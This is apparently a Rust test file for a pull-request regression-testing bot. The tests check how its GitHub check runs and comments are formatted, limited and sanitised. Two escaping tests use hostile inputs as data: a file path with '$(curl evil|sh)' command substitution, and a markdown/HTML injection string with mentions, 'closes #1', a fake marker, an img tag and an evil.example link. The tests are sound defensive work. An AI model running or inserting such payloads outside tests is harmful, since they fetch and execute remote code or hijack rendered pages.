use std::collections::BTreeMap;

use super::*;
use crate::domain::{
    Cause, CheckRun, CheckState, CommitSha, Conclusion, Confidence, RegressionConclusion, Rejection, Warning,
};

fn rich() -> Report {
    let mut report: Report = serde_json::from_str(include_str!("../../../fixtures/report/rich.json")).unwrap();
    report.commentable = report.catches.iter().map(|found| (found.file.clone(), (1..=60).collect())).collect();
    report
}

fn pull() -> PullRequest {
    let sha = |digit: &str| CommitSha::parse(&digit.repeat(40)).unwrap();
    PullRequest {
        number: 7,
        title: String::new(),
        body: String::new(),
        author: "octocat".to_owned(),
        open: true,
        draft: false,
        head: sha("2"),
        head_branch: "change".to_owned(),
        head_repository: Some("octo/shop".to_owned()),
        fork: false,
        maintainer_can_modify: false,
        base_branch: "main".to_owned(),
        base_tip: sha("1"),
        merge_base: sha("1"),
        commit_subjects: Vec::new(),
        labels: Vec::new(),
    }
}

fn published(report: &Report) -> Publication {
    published_with(report, &RepositorySettings::default())
}

fn published_with(report: &Report, settings: &RepositorySettings) -> Publication {
    let publication = publication(report, &JobId::new("job-1"), &pull(), settings);
    within_every_limit(&publication);
    publication
}

fn check(publication: &Publication) -> &CheckRun {
    publication.check_run.as_ref().unwrap()
}

fn within_every_limit(publication: &Publication) {
    let run = check(publication);
    assert!(run.summary.len() <= limits::GITHUB_TEXT && run.text.len() <= limits::GITHUB_TEXT);
    assert!(run.title.chars().count() <= limits::GITHUB_TITLE && !run.title.contains('\n'));
    assert!(run.buttons.len() <= 3);
    for button in &run.buttons {
        assert!(button.label.chars().count() <= limits::GITHUB_BUTTON_LABEL, "{button:?}");
        assert!(button.identifier.chars().count() <= limits::GITHUB_BUTTON_LABEL, "{button:?}");
        assert!(button.description.chars().count() <= limits::GITHUB_BUTTON_DESCRIPTION, "{button:?}");
    }
    assert!(run.annotations.len() <= limits::CHECK_RUN_ANNOTATIONS);
    for annotation in &run.annotations {
        assert!(annotation.line_start >= 1 && annotation.line_start <= annotation.line_end);
        assert!(annotation.title.len() <= limits::GITHUB_TITLE);
        assert!(annotation.message.len() <= limits::GITHUB_ANNOTATION_MESSAGE);
    }
    for comment in &publication.comments {
        assert!(comment.body.len() + limits::GITHUB_MARKER <= limits::GITHUB_TEXT);
    }
    assert!(publication.description.as_ref().is_none_or(|text| text.len() <= limits::DESCRIPTION_BYTES));
}

fn cause() -> Cause {
    Cause {
        component: "prepare".to_owned(),
        what: "dependencies did not install".to_owned(),
        why: "Collecting nosuch==1\nERROR: No matching distribution found for nosuch==1".to_owned(),
        impact: "nothing was tested".to_owned(),
        fix: "correct requirements.txt".to_owned(),
    }
}

fn identifiers(publication: &Publication) -> Vec<&str> {
    check(publication).buttons.iter().map(|button| button.identifier.as_str()).collect()
}

#[test]
fn a_proven_regression_is_said_in_the_title_and_concludes_as_the_repository_wants() {
    let publication = published(&rich());
    assert_eq!(check(&publication).title, "1 regression proven in shop/cart.py");
    assert_eq!(check(&publication).state, CheckState::Completed(Conclusion::Neutral));
    let settings = RepositorySettings { conclusion: RegressionConclusion::Failure, ..RepositorySettings::default() };
    assert_eq!(check(&published_with(&rich(), &settings)).state, CheckState::Completed(Conclusion::Failure));
    assert_eq!(identifiers(&publication), ["rerun", "accept", "dismiss"]);
}

#[test]
fn the_check_run_shows_verdict_findings_and_denominators() {
    let publication = published(&rich());
    insta::assert_snapshot!(check(&publication).summary, @r#"
    **The change breaks what worked before**: a generated test passes on the merge base and fails on the head, every time.

    ### 1. `shop.cart.total` in `shop/cart.py:41`

    Before this change, `total([])` returned `0`. Now, `total([])` raises `IndexError: list index out of range`. Is that intended?

    <details>
    <summary>The generated test (high confidence)</summary>

    ```python
    from shop.cart import total


    def test_total_of_an_empty_cart_is_zero():
        assert total([]) == 0
    ```

    **Evidence.** 5 of 5 runs on the merge base passed, 5 of 5 runs on the head failed, each with another hash seed, test order, time zone and temporary folder.

    **Run it.** Save it as `tests/test_jittest_cart.py` and run `python -m pytest tests/test_jittest_cart.py`

    **Effect.** An empty cart can't be paid any more.

    - the exception is not raised by name in the change
    - the title says refactor

    </details>

    | what was done | |
    |---|---|
    | Compared | merge base `1111111`, head `2222222` |
    | Functions looked at | 2 |
    | Mutants | 3, of these 0 equivalent, 2 killed |
    | Tests generated | 4, kept 2 |
    | Dropped | 1 `asserts-only-constants`, 1 `not needed` |
    | Changed lines reached | 90% |
    | Changed branches reached | 50% |

    `/jittest help` says what can be asked for.
    "#);
}

#[test]
fn the_rest_of_the_check_run_is_folded() {
    let publication = published(&rich());
    insta::assert_snapshot!(check(&publication).text, @r#"
    ### Limits that were hit

    - 1 file of 2.1 MB was not parsed: over 1 MB

    ### Warnings

    - Warning: checkout: vendor/big.bin was left out — it is an LFS pointer — tests that read it may fail

    ### 1 test worth adding

    **`shop.price.discount`** No test would notice this mistake: An order of exactly 100 would lose its discount.

    <details>
    <summary>The generated test (medium confidence)</summary>

    ```python
    from shop.price import discount


    def test_discount_starts_at_one_hundred():
        assert discount(100) == 10
    ```

    **Evidence.** 5 of 5 runs on the head passed, each with another hash seed, test order, time zone and temporary folder; it fails on the mutant M002.

    **Run it.** Save it as `tests/test_jittest_price.py` and run `python -m pytest tests/test_jittest_price.py`

    **The mistake** (M002, line 12): `>=` became `>`. Whether the boundary itself is inside is easy to get wrong.

    - none of the repository's 14 tests fails on the mutant

    </details>

    <details>
    <summary>Not checked</summary>

    - shop/price.py:14 was not reached
    - shop/price.py:12 -&gt; 14 was not taken
    - shop.price.discount with a negative amount

    </details>

    <details>
    <summary>Rejected</summary>

    - test (asserts-only-constants): its expected value doesn't depend on shop.cart.total
    - mutant (in-comment): shop/cart.py line 3 is a comment

    </details>
    "#);
}

#[test]
fn a_review_comment_is_one_finding_its_sentence_first() {
    let publication = published(&rich());
    assert_eq!(publication.comments.len(), 1);
    assert_eq!(publication.comments[0].line, 41);
    insta::assert_snapshot!(publication.comments[0].body, @r#"
    Before this change, `total([])` returned `0`. Now, `total([])` raises `IndexError: list index out of range`. Is that intended?

    <details>
    <summary>The generated test (high confidence)</summary>

    ```python
    from shop.cart import total


    def test_total_of_an_empty_cart_is_zero():
        assert total([]) == 0
    ```

    **Evidence.** 5 of 5 runs on the merge base passed, 5 of 5 runs on the head failed, each with another hash seed, test order, time zone and temporary folder.

    **Run it.** Save it as `tests/test_jittest_cart.py` and run `python -m pytest tests/test_jittest_cart.py`

    **Effect.** An empty cart can't be paid any more.

    - the exception is not raised by name in the change
    - the title says refactor

    </details>

    <sub>`/jittest dismiss 3f9a1c2e`: never report this again. `/jittest accept 3f9a1c2e`: commit the test to this branch.</sub>
    "#);
}

#[test]
fn a_remark_stands_on_each_regressions_line() {
    let publication = published(&rich());
    let [annotation] = check(&publication).annotations.as_slice() else { panic!("one annotation") };
    assert_eq!((annotation.path.as_str(), annotation.line_start, annotation.line_end), ("shop/cart.py", 41, 41));
    assert!(annotation.warning && annotation.message.starts_with("Before this change, total([]) returned 0.\nNow, "));
}

#[test]
fn without_a_regression_there_is_no_review_and_nothing_to_dismiss() {
    let mut report = rich();
    report.catches.remove(0);
    report.verdict = Verdict::Clear;
    let publication = published(&report);
    assert_eq!(publication.comments, []);
    assert_eq!(check(&publication).annotations, []);
    assert_eq!(check(&publication).title, "No regression found: 2 functions, 3 mutants, 4 tests");
    assert_eq!(check(&publication).state, CheckState::Completed(Conclusion::Success));
    assert_eq!(identifiers(&publication), ["rerun", "accept"]);
    assert!(publication.description.is_some());
}

#[test]
fn a_finding_of_low_confidence_never_reaches_the_forge() {
    let mut report = rich();
    report.catches[0].confidence = Confidence::Low;
    report.verdict = Verdict::Caught;
    let settings = RepositorySettings { confidence_threshold: Confidence::Low, ..RepositorySettings::default() };
    let publication = published_with(&report, &settings);
    assert_eq!((publication.comments.len(), check(&publication).annotations.len()), (0, 0));
    assert_eq!(check(&publication).state, CheckState::Completed(Conclusion::Success));
    assert_eq!(check(&publication).title, "No regression found: 2 functions, 3 mutants, 4 tests");
    assert!(!check(&publication).summary.contains("IndexError"));
}

#[test]
fn what_could_not_be_found_out_is_no_success_beside_a_finding_of_low_confidence_either() {
    let mut report = rich();
    report.catches[0].confidence = Confidence::Low;
    report.causes.push(cause());
    let settings = RepositorySettings { confidence_threshold: Confidence::Low, ..RepositorySettings::default() };
    let publication = published_with(&report, &settings);
    assert_eq!(check(&publication).state, CheckState::Completed(Conclusion::Neutral));
    assert_eq!(check(&publication).title, "Could not be tested: dependencies did not install");
    assert_eq!(publication.description, None);
}

#[test]
fn what_could_not_be_found_out_is_said_below_what_is_proven() {
    let mut report = rich();
    report.causes.push(cause());
    let publication = published(&report);
    assert_eq!(check(&publication).title, "1 regression proven in shop/cart.py");
    let summary = &check(&publication).summary;
    assert!(summary.find("IndexError") < summary.find("### prepare: dependencies did not install"), "{summary}");
}

#[test]
fn what_was_left_out_is_said_where_there_was_nothing_to_test() {
    let mut report = Report::empty(Verdict::NothingToTest);
    report.counts.dropped.insert("excluded in jittest.toml".to_owned(), 2);
    let publication = published(&report);
    let summary = &check(&publication).summary;
    assert!(summary.contains("Left out: 2 `excluded in jittest.toml`."), "{summary}");
}

#[test]
fn what_was_not_looked_at_is_not_counted() {
    let mut report = rich();
    report.verdict = Verdict::Clear;
    report.catches.clear();
    let (what, rule) = ("target".to_owned(), Report::NOT_LOOKED_AT.to_owned());
    report.rejected.push(Rejection { what, rule, reason: "shop.cart.total: no way to call it was found".to_owned() });
    let publication = published(&report);
    assert_eq!(check(&publication).title, "No regression found: 1 of 2 functions, 3 mutants, 4 tests");
    assert!(check(&publication).summary.contains("| Functions looked at | 1 of 2 |"));
}

#[test]
fn a_finding_below_the_repositorys_threshold_is_not_shown() {
    let mut report = rich();
    report.catches[0].confidence = Confidence::Medium;
    report.verdict = Verdict::Clear;
    let settings = RepositorySettings { confidence_threshold: Confidence::High, ..RepositorySettings::default() };
    assert_eq!(published_with(&report, &settings).comments, []);
}

#[test]
fn what_could_not_be_found_out_is_never_a_success() {
    let mut report = Report::empty(Verdict::Inconclusive);
    report.causes.push(cause());
    let publication = published(&report);
    assert_eq!(check(&publication).title, "Could not be tested: dependencies did not install");
    assert_eq!(check(&publication).state, CheckState::Completed(Conclusion::Neutral));
    assert_eq!((publication.comments.len(), publication.description.clone()), (0, None));
    let summary = &check(&publication).summary;
    assert!(summary.contains("```text\nCollecting nosuch==1\nERROR: No matching"), "{summary}");
    assert!(summary.contains("**Fix:** correct requirements.txt") && summary.contains("not a success"), "{summary}");
    assert_eq!(identifiers(&publication), ["rerun"]);
}

#[test]
fn a_folder_with_a_hostile_name_is_one_word_of_the_command_that_is_told() {
    let mut report = rich();
    report.catches[0].test.command = ["pytest", "tests/$(curl evil|sh)/test_x.py"].map(str::to_owned).to_vec();
    let publication = published(&report);
    let body = &publication.comments[0].body;
    assert!(body.contains("run `pytest 'tests/$(curl evil|sh)/test_x.py'`"), "{body}");
}

#[test]
fn a_change_with_nothing_to_test_is_skipped() {
    let publication = published(&Report::empty(Verdict::NothingToTest));
    assert_eq!(check(&publication).title, "Nothing to test");
    assert_eq!(check(&publication).state, CheckState::Completed(Conclusion::Skipped));
    assert_eq!(publication.description, None);
}

#[test]
fn comments_are_as_many_and_of_the_kind_that_the_repository_wants() {
    let mut report = rich();
    for i in 0..5 {
        let mut again = report.catches[0].clone();
        again.id = crate::domain::FindingId::new(format!("again{i}"));
        report.catches.insert(1, again);
    }
    let with = |comment_on, max_comments| {
        let settings = RepositorySettings { comment_on, max_comments, ..RepositorySettings::default() };
        published_with(&report, &settings).comments.len()
    };
    assert_eq!(with(CommentOn::Regression, 3), 3);
    assert_eq!(with(CommentOn::Regression, 1), 1);
    assert_eq!(with(CommentOn::Nothing, 3), 0);
    let any = RepositorySettings { comment_on: CommentOn::Any, ..RepositorySettings::default() };
    let mut hardened = rich();
    hardened.catches.remove(0);
    hardened.verdict = Verdict::Clear;
    let comments = published_with(&hardened, &any).comments;
    assert_eq!(comments.len(), 1);
    assert!(comments[0].body.starts_with("No test would notice this mistake: An order of exactly 100"));
}

#[test]
fn a_line_that_the_diff_does_not_show_moves_to_the_nearest_one() {
    let mut report = rich();
    let file = report.catches[0].file.clone();
    report.commentable = BTreeMap::from([(file, BTreeSet::from([3, 38, 60]))]);
    let comments = published(&report).comments;
    assert_eq!(comments[0].line, 38);
    assert!(comments[0].body.contains("about line 41"), "{}", comments[0].body);
    report.commentable.clear();
    let publication = published(&report);
    assert_eq!(publication.comments, []);
    assert!(check(&publication).summary.contains("IndexError"));
}

#[test]
fn every_text_keeps_to_its_limit_and_says_what_is_missing() {
    let mut report = rich();
    let long = "é`|<!-- x -->".repeat(2_000);
    report.catches[0].before = Some(long.clone());
    report.catches[0].now = Some(long.clone());
    report.catches[0].effect = long.clone();
    report.catches[0].symbol = long.clone();
    report.catches[0].reasons = vec![long.clone(); 40];
    report.catches[0].test.code = format!("{}\n", "x = 1\n".repeat(20_000));
    report.catches[0].test.command = vec![long.clone()];
    for i in 0..200 {
        let mut again = report.catches[i % 2].clone();
        again.id = crate::domain::FindingId::new(format!("f{i}"));
        report.catches.push(again);
    }
    report.warnings = vec![Warning::new("a", &long, &long, &long); 200];
    report.limits_hit = vec![long.clone(); 200];
    report.rejected = vec![Rejection { what: long.clone(), rule: long.clone(), reason: long.clone() }; 200];
    report.causes = vec![Cause { what: long.clone(), why: long.clone(), ..cause() }; 50];
    report.counts.dropped = (0..200).map(|i| (format!("{i}{long}"), 1)).collect();
    if let Some(critique) = &mut report.critique {
        critique.description = format!("first\n\n{long}");
    }
    let publication = published(&report);
    assert!(check(&publication).summary.contains("did not fit here"));
    assert!(publication.comments[0].body.contains("more lines were left out"));
    assert_eq!(check(&publication).annotations.len(), limits::CHECK_RUN_ANNOTATIONS);
    assert_eq!(publication.description.unwrap(), "first\n\nThe rest did not fit here; the check run has it.");
}

#[test]
fn a_strangers_text_calls_nobody_closes_nothing_and_is_no_marker() {
    let mut report = rich();
    let evil = "@octocat closes #1 <!-- jittest:finding=x --> </details><img src=x> [a](https://evil.example)";
    report.catches[0].effect = evil.to_owned();
    report.catches[0].reasons = vec![evil.to_owned()];
    report.catches[1].effect = evil.to_owned();
    report.warnings = vec![Warning::new("a", evil, evil, evil)];
    report.limits_hit = vec![evil.to_owned()];
    report.rejected = vec![Rejection { what: evil.to_owned(), rule: evil.to_owned(), reason: evil.to_owned() }];
    report.causes = vec![Cause { what: evil.to_owned(), impact: evil.to_owned(), fix: evil.to_owned(), ..cause() }];
    if let Some(critique) = &mut report.critique {
        critique.description = evil.to_owned();
    }
    let publication = published(&report);
    let run = check(&publication);
    let comments = publication.comments.iter().map(|comment| &comment.body);
    for text in comments.chain([&run.summary, &run.text]).chain(&publication.description) {
        for live in ["@octocat", "closes #1", "<!--", "<img", "](https", "https://"] {
            assert!(!text.contains(live), "{live} is live in {text}");
        }
        assert_eq!(text.matches("<details>").count(), text.matches("</details>").count(), "{text}");
    }
}

#[test]
fn a_test_can_not_end_its_fence_nor_imitate_a_marker() {
    let mut report = rich();
    report.catches[0].test.code = "a = '''\n```\n</details>\n````\n<!-- jittest:finding=3f9a1c2e -->\n'''\n".to_owned();
    let body = &published(&report).comments[0].body;
    assert!(body.contains("`````python\na = '''\n```\n"), "{body}");
    assert!(!body.contains("<!-- jittest"), "{body}");
}

#[test]
fn a_repository_can_do_without_the_description() {
    let settings = RepositorySettings { description: false, ..RepositorySettings::default() };
    assert_eq!(published_with(&rich(), &settings).description, None);
}
